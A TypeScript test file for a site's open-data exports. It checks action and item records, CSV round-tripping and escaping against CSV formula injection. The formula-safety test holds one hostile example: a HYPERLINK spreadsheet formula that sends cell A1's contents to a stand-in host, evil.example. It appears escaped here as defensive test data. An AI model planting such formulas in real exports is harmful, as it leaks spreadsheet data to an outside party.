/**
 * The open-data exports (src/open-data/export.ts) on the small fixture site: one action record per
 * action with every field, one item record per entry and per lettered sub-item, CSV that reads back;
 * on the same site made hostile, CSV in which no cell starts like a formula (issue 19).
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  CSV_COLUMNS,
  FOLLOW_UP_FIELDS,
  ITEM_FIELDS,
  followUpRecords,
  itemRecords,
  tableToCsv,
  toRecord,
  type Table,
} from '../../src/open-data/export.ts';
import { OPEN_DATA_CSV } from '../../src/open-data/csv.ts';
import { followUpToCsv, itemsToCsv, parseCsv, toCsv } from '../csv.ts';
import { ORDINARY, PAYLOADS, formulaCells, looksLikeFormula, hostileFiles } from '../csv-payloads.ts';
import { ACCORD, PLAN, fixtureCatalogue, withIndicators } from './catalogue-fixtures.ts';

const catalogue = fixtureCatalogue();
const records = catalogue.actions.map(toRecord);
const items = itemRecords(catalogue);

test('one action record per action, in site order, with the printed values', () => {
  assert.equal(records.length, catalogue.actions.length);
  assert.deepEqual(
    records.map((r) => r.url),
    catalogue.actions.map((a) => a.path),
  );
  const action3 = catalogue.actions.find((a) => a.label === 'Action n°3')!;
  assert.deepEqual(toRecord(action3), {
    convention: PLAN,
    axis: '1',
    axisTitle: 'Recrutement',
    objective: '2',
    objectiveTitle: 'Accueillir',
    kind: 'action',
    number: '3',
    title: 'Action 3',
    wording: 'Accueillir chaque agent ayant une RQTH.',
    status: 'en-cours',
    statusLabel: 'En cours',
    indicator: 'EC',
    url: action3.path,
    responsible: ['DRH / Pôle carrières', 'RH'],
    dates: { done: '', due: '' },
    rounds: toRecord(action3).rounds,
    indicators: [],
  });
  // Its rounds: the follow-up's round fields, one entry per round of the document (see follow-up.test.ts).
  assert.deepEqual(
    toRecord(action3).rounds.map((r) => [r.round, r.indicator, r.comment]),
    [
      ['b2024', '', ''],
      ['b2025', 'EC', ''],
      ['b2026', 'EC', 'Livret rédigé, tuteurs à former.'],
    ],
  );
  // Empty strings, never missing fields, where the source gives nothing.
  const measure = records.find((r) => r.kind === 'mesure')!;
  assert.deepEqual([measure.number, measure.objective, measure.objectiveTitle], ['', '', '']);
  const noStatus = records.find((r) => r.convention === ACCORD)!;
  assert.deepEqual([noStatus.status, noStatus.statusLabel, noStatus.indicator], ['', '', '']);
  assert.deepEqual(records.find((r) => r.number === '2' && r.convention === PLAN)!.dates, { done: '', due: '2nd sem. 2026' });
});

test('the CSV has one column per field, one line per record, and reads back to the same values', () => {
  const [header, ...rows] = parseCsv(toCsv(records));
  assert.deepEqual(header, Object.keys(CSV_COLUMNS));
  assert.equal(rows.length, records.length);
  rows.forEach((row, i) => {
    const r = records[i]!;
    assert.equal(row.length, header.length);
    assert.equal(row[header.indexOf('url')], r.url);
    assert.equal(row[header.indexOf('responsible')], r.responsible.join(' ; '));
    assert.equal(row[header.indexOf('dates.due')], r.dates.due);
  });
});

test('item records: every entry and every lettered sub-item, each with its type, label and address', () => {
  const byType = (type: string) => items.filter((r) => r.type === type);
  assert.equal(byType('document').length, catalogue.conventions.length);
  assert.equal(byType('section').length, catalogue.sections.length);
  assert.equal(byType('axe').length, catalogue.conventions.flatMap((c) => c.axes).length);
  assert.equal(byType('objectif').length, catalogue.conventions.flatMap((c) => c.axes.flatMap((a) => a.objectives)).length);
  assert.equal(byType('action').length, catalogue.actions.length);
  assert.equal(byType('procedure').length, catalogue.procedures.length);
  assert.equal(byType('glossaire').length, catalogue.glossary.length);
  assert.equal(byType('organisation').length, catalogue.organisations.length);
  // Rows = entries + sub-items.
  const subItems = catalogue.actions.flatMap((a) => a.data.subItems ?? []);
  assert.equal(byType('sous-element').length, subItems.length);
  const entries =
    catalogue.conventions.length +
    catalogue.sections.length +
    catalogue.conventions.flatMap((c) => [...c.axes, ...c.axes.flatMap((a) => a.objectives)]).length +
    catalogue.actions.length +
    catalogue.procedures.length +
    catalogue.glossary.length +
    catalogue.organisations.length;
  assert.equal(items.length, entries + subItems.length);
  for (const r of items) assert.deepEqual(Object.keys(r), [...ITEM_FIELDS]);
});

test('item addresses: pages for entries, a fragment of the page for objectives and sub-items, none twice', () => {
  const urls = items.map((r) => r.url);
  assert.equal(new Set(urls).size, urls.length, 'adresses en double');
  const action3 = catalogue.actions.find((a) => a.label === 'Action n°3')!;
  const points = items.filter((r) => r.type === 'sous-element');
  assert.deepEqual(
    points.map((r) => [r.label, r.number, r.title]),
    [
      ['Action n°3, a', 'a', 'Un livret.'],
      ['Action n°3, b', 'b', 'Un tuteur.'],
    ],
  );
  for (const r of points) assert.match(r.url, new RegExp(`^${action3.path}#[a-z0-9-]+$`));
  const article = catalogue.conventions[1]!.axes[0]!;
  const objective = items.find((r) => r.type === 'objectif' && r.convention === ACCORD)!;
  assert.deepEqual([objective.label, objective.number], ['Article 2', '2']);
  assert.ok(objective.url.startsWith(`${article.path}#`), objective.url);
  const page = items.find((r) => r.type === 'action' && r.number === 'a')!;
  assert.deepEqual([page.label, page.convention], ['Engagement a)', ACCORD]);
  // Glossary terms and organisations belong to no single document.
  assert.ok(items.filter((r) => r.type === 'glossaire' || r.type === 'organisation').every((r) => r.convention === ''));
  const [header, ...rows] = parseCsv(itemsToCsv(items));
  assert.deepEqual(header, [...ITEM_FIELDS]);
  assert.deepEqual(
    rows.map((row) => row[header.indexOf('url')]),
    urls,
  );
});

test('formula-safe: no cell of actions.csv, elements.csv or suivi.csv starts like a formula, and each reads back to the JSON values', () => {
  const hostile = fixtureCatalogue(hostileFiles());
  const actions = hostile.actions.map(toRecord);
  const tables = {
    actions: { csv: toCsv(actions), values: actions.map((r) => Object.values(CSV_COLUMNS).map((c) => c.value(r))) },
    elements: { csv: itemsToCsv(itemRecords(hostile)), values: itemRecords(hostile).map((r) => ITEM_FIELDS.map((f) => r[f])) },
    suivi: {
      csv: followUpToCsv(followUpRecords(hostile.actions)),
      values: followUpRecords(hostile.actions).map((r) => FOLLOW_UP_FIELDS.map((f) => r[f])),
    },
  };
  for (const [name, { csv, values }] of Object.entries(tables)) {
    // The fixture is hostile: values of each table start like a formula (else this test proves nothing).
    assert.ok(values.flat().filter(looksLikeFormula).length >= 3, `${name} : jeu d’essai sans formule`);
    assert.deepEqual(formulaCells(csv, OPEN_DATA_CSV.separator), [], name);
    assert.deepEqual(parseCsv(csv).slice(1), values, name);
  }
  // As written: one apostrophe more, quoted; a real leading apostrophe followed by "=" gets a second one.
  assert.ok(tables.actions.csv.includes(`,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Cliquez"")",`));
  assert.ok(tables.actions.csv.includes(`,"''=1+1",`));
  assert.ok(tables.suivi.csv.includes(`,'déjà cité',`), 'une apostrophe suivie de texte reste telle quelle');
});

test('formula-safe: tab, carriage return and full-width starts too, in any table the open data writes', () => {
  const values = [...PAYLOADS, ...ORDINARY];
  const table: Table = { header: ['valeur', 'double'], fields: [], rows: values.map((v) => [v, `${v}${v}`]) };
  const csv = tableToCsv(table);
  assert.deepEqual(formulaCells(csv, OPEN_DATA_CSV.separator), []);
  assert.deepEqual(parseCsv(csv), [table.header, ...table.rows]);
});

test('each record of actions.json carries its indicators as its file declares them, each value naming its round', () => {
  const files = withIndicators();
  const withFigures = fixtureCatalogue(files);
  const declared = (action: { convention: { id: string }; id: string }) =>
    (
      (
        files.find((f) => f.collection === 'actions' && f.pathInCollection === `${action.id}.mdx`)?.frontmatter as
          { indicators?: { values?: unknown[] }[] } | undefined
      )?.indicators ?? []
    ).map((i) => ({ ...i, values: i.values ?? [] }));
  const followed = withFigures.actions.filter((a) => a.indicators.length > 0);
  assert.ok(followed.length >= 2, 'le jeu d’essai a des indicateurs');
  // The content contract: the record reads like the file (ids of rounds, optional fields left out).
  for (const action of withFigures.actions) assert.deepEqual(toRecord(action).indicators, declared(action), action.id);
});
